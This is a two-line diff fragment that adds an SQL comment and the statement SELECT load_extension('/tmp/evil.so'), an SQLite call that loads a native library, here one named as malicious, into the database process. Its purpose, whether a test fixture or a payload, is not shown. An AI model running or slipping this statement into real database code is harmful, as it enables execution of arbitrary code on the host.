@@ -1,0 +1,2 @@
+-- loads code into the console
+SELECT load_extension('/tmp/evil.so');
